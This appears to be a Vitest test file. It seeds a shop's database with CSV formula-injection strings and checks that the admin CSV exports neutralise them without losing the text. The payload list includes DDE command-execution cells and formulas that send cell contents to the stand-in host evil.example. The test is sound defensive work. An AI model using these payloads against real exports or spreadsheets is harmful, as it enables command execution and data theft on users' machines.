import { beforeAll, expect, test } from 'vitest';
import { licenses, orders, products, promoCodes, tickets } from '#db/schema.ts';
import { useShop } from '../support/shop.ts';
import { insertOrder } from '../support/sold-order.ts';

/** Cells that spreadsheets have executed, or taken for the end of a cell. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1,"Open")',
  '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
  '@WEBSERVICE("http://evil.example")',
  "-2+3+cmd|' /C calc'!A0",
  '＝1',
  '＋1',
  '－1',
  '＠1',
  'a",=1+1,"',
  'a"\r\n=1+1',
  'a\r\n=1+1',
  'a\n"=1+1',
  "a',=1",
  ';=1+1',
  'a;=1',
  '"=1+1"',
  '""=1',
  '\ufeff=1',
];

const start = /^[=+\-@\t\r\n\0＝＋－＠]/;

const shop = useShop({ seed: 'none', admin: true });
beforeAll(async () => {
  const { db } = shop.database;
  const createdAt = new Date('2026-03-01T09:30:00.000Z');
  const { order } = await insertOrder(db);
  for (const [index, text] of formulas.entries()) {
    const id = `${text}#${index}`;
    await db.insert(products).values({
      name: text,
      description: text,
      priceCents: 100,
      type: 'indicator',
      createdAt,
      updatedAt: createdAt,
    });
    await db.insert(promoCodes).values({
      code: id,
      discountBasisPoints: 1000,
      expirationDate: text,
      startDate: text,
      isActive: true,
      createdAt,
    });
    const texts = { email: text, promoCode: text, productName: text, paypalOrderId: id };
    await db.insert(orders).values({ ...order, ...texts, id });
    const binding = { accountNumber: id, brokerName: text, email: text };
    await db
      .insert(licenses)
      .values({ orderId: id, licenseKey: id, normalizedKey: id, ...binding, createdAt });
    await db.insert(tickets).values({ name: text, email: text, message: text, createdAt });
  }
});

test.each(['products', 'promo-codes', 'purchases', 'licenses', 'tickets'])(
  'no cell of %s is a formula, and none leaves its place @p32',
  async (list) => {
    const response = await fetch(`${shop.url}/api/${list}.csv`, {
      headers: { Authorization: `Bearer ${shop.token}` },
    });
    const [header, ...rows] = readCsv((await response.text()).replace(/^\ufeff/, ''));
    expect(rows.length).toBeGreaterThanOrEqual(formulas.length);
    for (const row of rows) {
      expect(row).toHaveLength(header?.length ?? 0);
      const texts = row.filter((cell) => !/^-?\d+(\.\d+)?$/.test(cell));
      for (const text of texts) expect(text).not.toMatch(start);
    }
    // Each text is still there, behind what defuses it.
    const cells = new Set(rows.flat());
    for (const [index, text] of formulas.entries()) {
      // SQLite's texts end at a NUL.
      const [read = ''] = text.split('\0');
      const kept = [read, `'${read}`, `${read}#${index}`, `'${read}#${index}`];
      expect(
        kept.some((cell) => cells.has(cell)),
        JSON.stringify(text),
      ).toBe(true);
    }
  },
);

/** Reads the cells of a table by RFC 4180. */
function readCsv(text: string): string[][] {
  const cell = /(?:"((?:[^"]|"")*)"|([^,"\r\n]*))(,|\r\n)/y;
  const rows: string[][] = [];
  let row: string[] = [];
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex;
    const found = cell.exec(text);
    if (!found) throw new Error(`This is no CSV: ${JSON.stringify(text.slice(at, at + 80))}`);
    const [, quoted, plain = '', end] = found;
    row.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}
